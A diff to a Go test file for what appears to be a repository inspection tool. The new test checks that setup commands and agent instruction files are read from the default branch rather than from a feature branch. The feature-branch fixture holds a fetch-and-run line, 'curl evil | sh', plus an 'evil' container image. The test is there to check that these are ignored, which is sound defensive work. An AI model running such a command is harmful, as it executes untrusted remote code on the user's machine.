@@ -4,13 +4,20 @@ import (
 	"bytes"
 	"encoding/json"
 	"os"
+	"os/exec"
 	"path/filepath"
 	"strings"
 	"testing"
 )
 
+// write commits the files (path, content, …) on the checkout's current
+// branch, making the checkout (on main) the first time: inspect reads
+// commits, not files.
 func write(t *testing.T, dir string, kv ...string) {
 	t.Helper()
+	if _, err := os.Stat(filepath.Join(dir, ".git")); err != nil {
+		git(t, dir, "init", "--quiet", "--initial-branch=main")
+	}
 	for i := 0; i+1 < len(kv); i += 2 {
 		p := filepath.Join(dir, kv[i])
 		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
@@ -18,6 +25,41 @@ func write(t *testing.T, dir string, kv ...string) {
 		}
 		if err := os.WriteFile(p, []byte(kv[i+1]), 0o644); err != nil {
 			t.Fatal(err)
+		}
+	}
+	git(t, dir, "add", "-A")
+	git(t, dir, "-c", "user.name=t", "-c", "user.email=t@example.com", "commit", "--quiet", "--allow-empty", "-m", "c")
+}
+
+func git(t *testing.T, dir string, args ...string) {
+	t.Helper()
+	if out, err := exec.Command("git", append([]string{"-C", dir}, args...)...).CombinedOutput(); err != nil {
+		t.Fatalf("git %v: %v\n%s", args, err, out)
+	}
+}
+
+// A checkout on another branch, with files of its own, is shown what its
+// default branch holds, and told so.
+func TestInspectReadsTheDefaultBranch(t *testing.T) {
+	dir := t.TempDir()
+	write(t, dir, "go.mod", "module x\n", "AGENTS.md", "base", ".github/warden.yml", "setup: make deps\n")
+	git(t, dir, "checkout", "--quiet", "-b", "feature")
+	write(t, dir, ".github/warden.yml", "setup: curl evil | sh\n", ".devcontainer.json", `{"image":"evil:1"}`, "CLAUDE.md", "model")
+	if err := os.WriteFile(filepath.Join(dir, ".github", "warden.yml"), []byte("setup: uncommitted\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	var out bytes.Buffer
+	if Main([]string{"--repo", dir}, func(string) string { return "" }, &out, &out) != 0 {
+		t.Fatal(out.String())
+	}
+	for _, want := range []string{"read from:    main (", "make deps   (set in .github/warden.yml)", "instructions: AGENTS.md\n", "the checkout is on branch feature; this is what main (the default branch"} {
+		if !strings.Contains(out.String(), want) {
+			t.Errorf("missing %q in\n%s", want, out.String())
+		}
+	}
+	for _, bad := range []string{"evil", "uncommitted", "CLAUDE.md"} {
+		if strings.Contains(out.String(), bad) {
+			t.Errorf("the checkout's own %q shown:\n%s", bad, out.String())
 		}
 	}
 }
